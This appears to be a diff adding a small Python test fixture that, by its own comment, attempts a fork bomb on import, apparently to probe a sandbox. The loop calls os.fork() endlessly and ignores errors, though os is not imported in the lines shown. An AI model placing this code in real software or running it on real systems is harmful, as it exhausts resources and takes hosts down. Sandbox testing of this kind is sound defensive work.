@@ -1,0 +1,7 @@
+# tries: a fork bomb as soon as it is imported
+# breaks: 3b
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
